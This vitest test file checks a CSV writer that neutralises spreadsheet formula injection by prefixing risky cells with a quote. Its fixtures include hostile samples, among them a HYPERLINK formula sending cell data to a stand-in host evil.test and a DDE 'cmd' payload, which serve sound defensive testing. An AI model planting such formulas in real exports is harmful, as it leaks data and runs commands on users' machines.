/**
 * The console's CSV writer: RFC 4180 text with CRLF line ends, and no text cell a spreadsheet would
 * run as a formula — each starting with = + - @, a tab, a carriage return or a line feed gets a
 * leading single quote, headers too — while numbers, negative ones included, stay numbers; a
 * guarded cell read back is the original text.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, restoreCell, writeCsv } from './csv';

/** The cells of `text` as a spreadsheet program reads them (quotes undone). */
const cellsOf = (text: string) => Papa.parse<string[]>(text, { newline: '\r\n' }).data;

describe('writeCsv', () => {
  it('prefixes every text cell starting with = + - @ tab, CR or LF with a single quote', () => {
    const hostile = [
      '=HYPERLINK("http://evil.test/?leak="&B2,"Open")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      // papaparse's own escapeFormulae pattern lets a cell with a later line break through.
      '=1+1\nsecond line',
    ];
    const [, row] = cellsOf(writeCsv(['Name', 'A', 'B', 'C', 'D', 'E', 'F', 'G'], [hostile]));
    expect(row).toEqual(hostile.map((cell) => `'${cell}`));
  });

  it('guards the header cells too (a criterion or column name is text a user wrote)', () => {
    const [header] = cellsOf(writeCsv(['=cmd|" /C calc"!A0', 'Score'], [['Ana', 4]]));
    expect(header).toEqual([`'=cmd|" /C calc"!A0`, 'Score']);
  });

  it('writes numbers as numbers, negative ones included, and leaves ordinary text alone', () => {
    const text = writeCsv(
      ['Name', 'Gap', 'Mean', 'Note'],
      [['Ana Álvarez', -0.35, '3.50', 'a, "quoted" note']],
    );
    expect(text.split('\r\n')).toEqual([
      'Name,Gap,Mean,Note',
      'Ana Álvarez,-0.35,3.50,"a, ""quoted"" note"',
    ]);
  });

  it('guards a negative figure written as text (a writer wanting a number passes a number)', () => {
    expect(neutralizeCell('-0.35')).toBe("'-0.35");
    expect(neutralizeCell(-0.35)).toBe(-0.35);
  });
});

describe('restoreCell', () => {
  it('reads a guarded cell back as the text it was, and leaves other cells alone', () => {
    for (const text of ['=Team', '+1', '@home', '-x']) expect(restoreCell(`'${text}`)).toBe(text);
    expect(restoreCell("'quoted")).toBe("'quoted");
    expect(restoreCell("O'Brien")).toBe("O'Brien");
  });
});
